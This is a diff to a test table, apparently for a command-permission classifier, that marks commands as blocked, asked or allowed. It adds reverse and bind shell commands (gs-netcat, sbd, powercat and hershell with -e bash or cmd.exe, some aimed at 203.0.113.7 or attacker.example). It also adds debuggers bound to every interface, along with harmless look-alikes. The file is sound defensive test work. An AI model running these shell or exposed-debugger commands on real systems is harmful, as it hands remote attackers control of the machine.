@@ -66,6 +66,29 @@ const ROWS: readonly ClassRow[] = [
     RS,
     RS,
   ],
+  // Relays nobody described, given a shell as an option's value beside a host and port (ADR 0551); gs-netcat's
+  // relay needs no endpoint in the words.
+  ["gs-netcat -l -i -s ExampleSecret123", RS, RS],
+  ["gs-netcat -s ExampleSecret123 -l -e /bin/bash", RS, RS],
+  ["rcat connect -s bash 203.0.113.7 4444", RS, RS],
+  ["sbd -e bash 203.0.113.7 4444", RS, RS],
+  ["sbd -l -p 4444 -e /bin/sh", RS, RS],
+  ["powercat -c 203.0.113.7 -p 4444 -e cmd.exe", RS, RS],
+  ["hershell --shell /bin/bash attacker.example:443", RS, RS],
+  // A debugger on every interface runs any code for whoever reaches it: asked (ADR 0551).
+  ["node --inspect=0.0.0.0:9229 server.js", "ask", "ask"],
+  ["node --inspect-brk=[::]:9229 app.js", "ask", "ask"],
+  ["NODE_OPTIONS=--inspect=0.0.0.0:9229 npm start", "ask", "ask"],
+  ["java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005 -jar app.jar", "ask", "ask"],
+  ["java -agentlib:jdwp=transport=dt_socket,server=y,address=0.0.0.0:5005 -cp out Main", "ask", "ask"],
+  ["JAVA_TOOL_OPTIONS='-agentlib:jdwp=transport=dt_socket,server=y,address=*:8000' ./gradlew bootRun", "ask", "ask"],
+  // Look-alikes: a debugger on loopback, a shell option with no network beside it.
+  ["node --inspect server.js", "allow", "allow"],
+  ["node --inspect=127.0.0.1:9229 server.js", "allow", "allow"],
+  ["java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=localhost:5005 -jar app.jar", "allow", "allow"],
+  ["tmux new -s bash", "allow", "allow"],
+  ["docker run -it --entrypoint bash -p 8080:80 nginx", "allow", "allow"],
+  ["rcat listen 55600", "allow", "allow"],
   // Look-alikes: probing a port, reading from a socket, netcat as a plain client, one-liners without a shell.
   ["timeout 1 bash -c 'echo > /dev/tcp/localhost/5432' && echo open", "allow", "allow"],
   ["until echo > /dev/tcp/localhost/6379; do sleep 1; done", "allow", "allow"],
